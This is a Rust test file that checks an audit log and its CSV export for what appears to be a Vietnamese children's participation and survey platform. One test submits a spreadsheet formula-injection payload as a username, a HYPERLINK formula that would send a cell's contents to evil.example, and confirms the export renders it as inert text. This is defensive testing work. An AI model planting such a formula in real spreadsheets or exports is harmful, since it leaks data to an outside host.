//! Each event the log lists leaves one row; the CSV export reads back.

use super::*;

#[tokio::test]
async fn every_event_leaves_one_row_with_its_actor_action_ward_and_target() {
    use AuditAction::*;
    let server = server().await;
    let city = server.city_token.clone();
    let mut expected: Vec<Row> = Vec::new();

    // Sign-ins, a failure, and a name locked after repeated failures.
    let collector: Session = server.session("badinh", DEMO_PASSWORD).await;
    expected.push(row(
        SignIn,
        "badinh",
        Some(Role::Collector),
        Some("00004"),
        collector.device_id,
    ));
    let officer: Session = server.session("badinh.canbo", DEMO_PASSWORD).await;
    expected.push(row(
        SignIn,
        "badinh.canbo",
        Some(Role::WardOfficer),
        Some("00004"),
        officer.device_id,
    ));
    assert_eq!(
        failed_sign_in(&server, "badinh.canbo").await,
        StatusCode::UNAUTHORIZED
    );
    expected.push(row(SignInFailed, "badinh.canbo", None, None, ""));
    for _ in 0..MAX_FAILED_SIGN_INS {
        assert_eq!(
            failed_sign_in(&server, "ghost").await,
            StatusCode::UNAUTHORIZED
        );
        expected.push(row(SignInFailed, "ghost", None, None, ""));
    }
    expected.push(row(SignInLocked, "ghost", None, None, ""));
    // Refused while locked: no work, no row.
    assert_eq!(
        failed_sign_in(&server, "ghost").await,
        StatusCode::TOO_MANY_REQUESTS
    );

    // Accounts and devices.
    server
        .create_account("lan", Role::Collector, Some("00008"))
        .await;
    let city_row = |action, ward: Option<&str>, target: &str| {
        row(action, "thanhpho", Some(Role::CityOfficer), ward, target)
    };
    expected.push(city_row(AccountCreated, Some("00008"), "lan"));
    let new_password = "một mật khẩu mới dài";
    for (body, action) in [
        (r#"{"role": "ward_officer"}"#.to_owned(), AccountChanged),
        (
            format!(r#"{{"password": "{new_password}"}}"#),
            PasswordReset,
        ),
        (r#"{"active": false}"#.to_owned(), AccountDeactivated),
        (r#"{"active": true}"#.to_owned(), AccountReactivated),
    ] {
        assert_eq!(
            call(&server, "PUT", "/api/v1/accounts/lan", &city, &body).await,
            StatusCode::OK
        );
        expected.push(city_row(action, Some("00008"), "lan"));
    }
    let lan = server.session("lan", new_password).await;
    expected.push(row(
        SignIn,
        "lan",
        Some(Role::WardOfficer),
        Some("00008"),
        lan.device_id,
    ));
    let revoke = format!("/api/v1/devices/{}/revoke", lan.device_id);
    assert_eq!(
        call(&server, "POST", &revoke, &city, "").await,
        StatusCode::NO_CONTENT
    );
    expected.push(city_row(
        DeviceRevoked,
        Some("00008"),
        &lan.device_id.to_string(),
    ));

    // A survey imported.
    let workbook = std::fs::read(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/xlsform/school-safety.xlsx"),
    )
    .expect("the fixture");
    let (status, body) = server
        .post_raw_as(Some(&city), "/api/v1/surveys/import", workbook)
        .await;
    assert_eq!(status, StatusCode::CREATED);
    let imported: thamgia_core::api::import::ImportedSurvey =
        serde_json::from_slice(&body).expect("survey");
    expected.push(city_row(SurveyImported, None, &imported.survey.key()));

    // Responses withdrawn from a tablet and at the town hall; one stays.
    let (kept, by_tablet, at_town_hall) = (
        response_with_text(1),
        response_with_text(2),
        response_with_text(3),
    );
    for (seq, response) in [(1, &kept), (2, &by_tablet), (3, &at_town_hall)] {
        let change = MutationChange::SubmitResponse {
            response: response.clone(),
        };
        push(&server, &collector.token, COLLECTOR_TABLET, seq, change).await;
    }
    let withdrawal = MutationChange::WithdrawResponse {
        response_id: by_tablet.id,
        withdrawn_at: Utc::now(),
    };
    push(&server, &collector.token, COLLECTOR_TABLET, 4, withdrawal).await;
    expected.push(row(
        ResponseWithdrawn,
        "badinh",
        Some(Role::Collector),
        Some("00004"),
        by_tablet.id,
    ));
    let withdraw = format!("/api/v1/responses/{}/withdraw", at_town_hall.id);
    assert_eq!(
        call(&server, "POST", &withdraw, &officer.token, "").await,
        StatusCode::NO_CONTENT
    );
    expected.push(row(
        ConsentWithdrawn,
        "badinh.canbo",
        Some(Role::WardOfficer),
        Some("00004"),
        at_town_hall.id,
    ));
    // Withdrawing again changes nothing and logs nothing.
    assert_eq!(
        call(&server, "POST", &withdraw, &officer.token, "").await,
        StatusCode::NO_CONTENT
    );

    // A report submitted by the ward and approved by the city.
    let report_id =
        ReportId::new("00004", "2026-Q3".parse::<Period>().expect("period")).expect("id");
    let status_change = |from, to| MutationChange::ChangeReportStatus {
        change: ReportStatusChange {
            report_id: report_id.clone(),
            from,
            to,
        },
    };
    push(
        &server,
        &officer.token,
        OFFICER_TABLET,
        1,
        status_change(ReportStatus::Draft, ReportStatus::Submitted),
    )
    .await;
    expected.push(row(
        ReportStatusChanged,
        "badinh.canbo",
        Some(Role::WardOfficer),
        Some("00004"),
        &report_id,
    ));
    push(
        &server,
        &city,
        CITY_TABLET,
        1,
        status_change(ReportStatus::Submitted, ReportStatus::Approved),
    )
    .await;
    expected.push(city_row(
        ReportStatusChanged,
        Some("00004"),
        &report_id.to_string(),
    ));

    // A children's recommendation answered by the ward.
    let held_on = Utc::now().date_naive();
    let mut forum = Forum::new(Uuid::from_u128(0xF1), "00004", held_on, Utc::now());
    forum.place = "Nhà văn hóa tổ dân phố 5".to_owned();
    forum.facilitators = "Cô Hoa".to_owned();
    forum.consents_collected = 12;
    forum.participants = vec![ParticipantCount {
        age_band: AgeBand::From10To12,
        sex: Sex::Female,
        count: 12,
    }];
    let recommendation = Uuid::from_u128(0x5EC);
    forum.recommendations = vec![Recommendation {
        id: recommendation,
        text: CHILD_WROTE.to_owned(),
        authority: "UBND phường Ba Đình".to_owned(),
        votes: 12,
    }];
    forum.submitted = true;
    push(
        &server,
        &collector.token,
        COLLECTOR_TABLET,
        5,
        MutationChange::SubmitForum { forum },
    )
    .await;
    let answer = format!(
        r#"{{"decision": "partly", "reasons": "Ngân sách có hạn", "actions": "Lắp đèn", "answered_on": "{held_on}"}}"#
    );
    let path = format!("/api/v1/recommendations/{recommendation}/answer");
    assert_eq!(
        call(&server, "POST", &path, &officer.token, &answer).await,
        StatusCode::NO_CONTENT
    );
    expected.push(row(
        RecommendationAnswered,
        "badinh.canbo",
        Some(Role::WardOfficer),
        Some("00004"),
        recommendation,
    ));

    // Targets and the child population.
    let targets = r#"[{"jurisdiction": "01", "year": 2030, "value": 80.0}]"#;
    assert_eq!(
        call(
            &server,
            "PUT",
            "/api/v1/indicators/4.1/targets",
            &city,
            targets
        )
        .await,
        StatusCode::NO_CONTENT
    );
    expected.push(city_row(TargetsChanged, None, "4.1"));
    let population = r#"{"children_7_15": 1200}"#;
    assert_eq!(
        call(
            &server,
            "PUT",
            "/api/v1/wards/00004/population/2026",
            &city,
            population
        )
        .await,
        StatusCode::NO_CONTENT
    );
    expected.push(city_row(PopulationChanged, Some("00004"), "00004"));

    // The three exports of children's data.
    let survey = seed::demo_survey().expect("demo survey");
    for (path, action, target) in [
        (
            format!("/api/v1/export/responses.csv?survey={}", survey.id),
            ExportResponses,
            survey.id.clone(),
        ),
        (
            "/api/v1/export/reports.csv?period=2026-Q3".to_owned(),
            ExportReports,
            "2026-Q3".to_owned(),
        ),
        (
            "/api/v1/export/participation.csv?period=2026-Q3".to_owned(),
            ExportParticipation,
            "2026-Q3".to_owned(),
        ),
        (
            "/api/v1/export/forums.csv".to_owned(),
            ExportForums,
            "forums.csv".to_owned(),
        ),
    ] {
        assert_eq!(
            server.get_raw_as(&city, &path).await.0,
            StatusCode::OK,
            "{path}"
        );
        expected.push(city_row(action, None, &target));
    }

    // Signing out.
    assert_eq!(
        call(&server, "DELETE", "/api/v1/session", &collector.token, "").await,
        StatusCode::NO_CONTENT
    );
    expected.push(row(
        SignOut,
        "badinh",
        Some(Role::Collector),
        Some("00004"),
        collector.device_id,
    ));

    let entries = whole_log(&server).await;
    let rows: Vec<Row> = entries.iter().map(shown).collect();
    assert_eq!(rows, expected);
    // Later entries have larger numbers, and every detail is what it says.
    assert!(entries
        .windows(2)
        .all(|pair| pair[0].id < pair[1].id && pair[0].at <= pair[1].at));
    let detail = |action| -> Vec<&str> {
        entries
            .iter()
            .filter(|entry| entry.action == action)
            .map(|entry| entry.detail.as_str())
            .collect()
    };
    assert_eq!(detail(AccountCreated), ["role=collector"]);
    assert_eq!(detail(AccountChanged), ["role=ward_officer ward=00008"]);
    assert_eq!(detail(DeviceRevoked), ["account=lan"]);
    assert_eq!(
        detail(ReportStatusChanged),
        ["from=draft to=submitted", "from=submitted to=approved"]
    );
    assert_eq!(
        detail(PopulationChanged),
        ["year=2026 children_7_15=1200 groups=kept"]
    );
    assert_eq!(detail(TargetsChanged), ["targets=1"]);
    assert_eq!(detail(ExportResponses), ["rows=1"]);
    assert_eq!(detail(SignIn)[0], "test");
    assert!(entries
        .iter()
        .all(|entry| !entry.detail.contains(new_password)));
}

#[tokio::test]
async fn the_csv_reads_back_with_formulas_as_text_and_its_export_is_logged() {
    let server = server().await;
    let formula = r#"=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")"#;
    assert_eq!(
        failed_sign_in(&server, formula).await,
        StatusCode::UNAUTHORIZED
    );
    let session = server.session("badinh", DEMO_PASSWORD).await;
    let entries = log(&server, "").await.entries;

    let (status, body) = server
        .get_raw_as(&server.city_token, "/api/v1/export/audit.csv")
        .await;
    assert_eq!(status, StatusCode::OK);
    let text = String::from_utf8(body).expect("UTF-8");
    let text = text
        .strip_prefix(UTF8_BOM)
        .expect("a byte-order mark for Excel");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .expect("a header")
        .iter()
        .map(str::to_owned)
        .collect();
    assert_eq!(
        header,
        [
            "id",
            "time_hanoi",
            "at_utc",
            "actor",
            "actor_role",
            "action",
            "action_vi",
            "action_en",
            "ward_code",
            "target",
            "detail"
        ]
    );
    let records: Vec<csv::StringRecord> = reader
        .records()
        .map(|record| record.expect("a record"))
        .collect();
    assert_eq!(records.len(), entries.len());
    let signed_in = &records[0];
    assert_eq!(&signed_in[3], "badinh");
    assert_eq!(&signed_in[4], "collector");
    assert_eq!(&signed_in[5], "sign_in");
    assert_eq!(&signed_in[6], "Đăng nhập");
    assert_eq!(&signed_in[7], "Signed in");
    assert_eq!(&signed_in[8], "00004");
    assert_eq!(&signed_in[9], session.device_id.to_string());
    assert_eq!(&signed_in[1], &entries[0].local_time());
    let failed = &records[1];
    assert_eq!(&failed[5], "sign_in_failed");
    assert!(
        failed[3].starts_with("'="),
        "a formula is written as text: {}",
        &failed[3]
    );

    let logged = log(&server, "action=export_audit").await.entries;
    assert_eq!(logged.len(), 1);
    assert_eq!(logged[0].actor.as_deref(), Some("thanhpho"));
    assert_eq!(logged[0].target, "audit.csv");
    assert_eq!(logged[0].detail, format!("rows={}", records.len()));
}
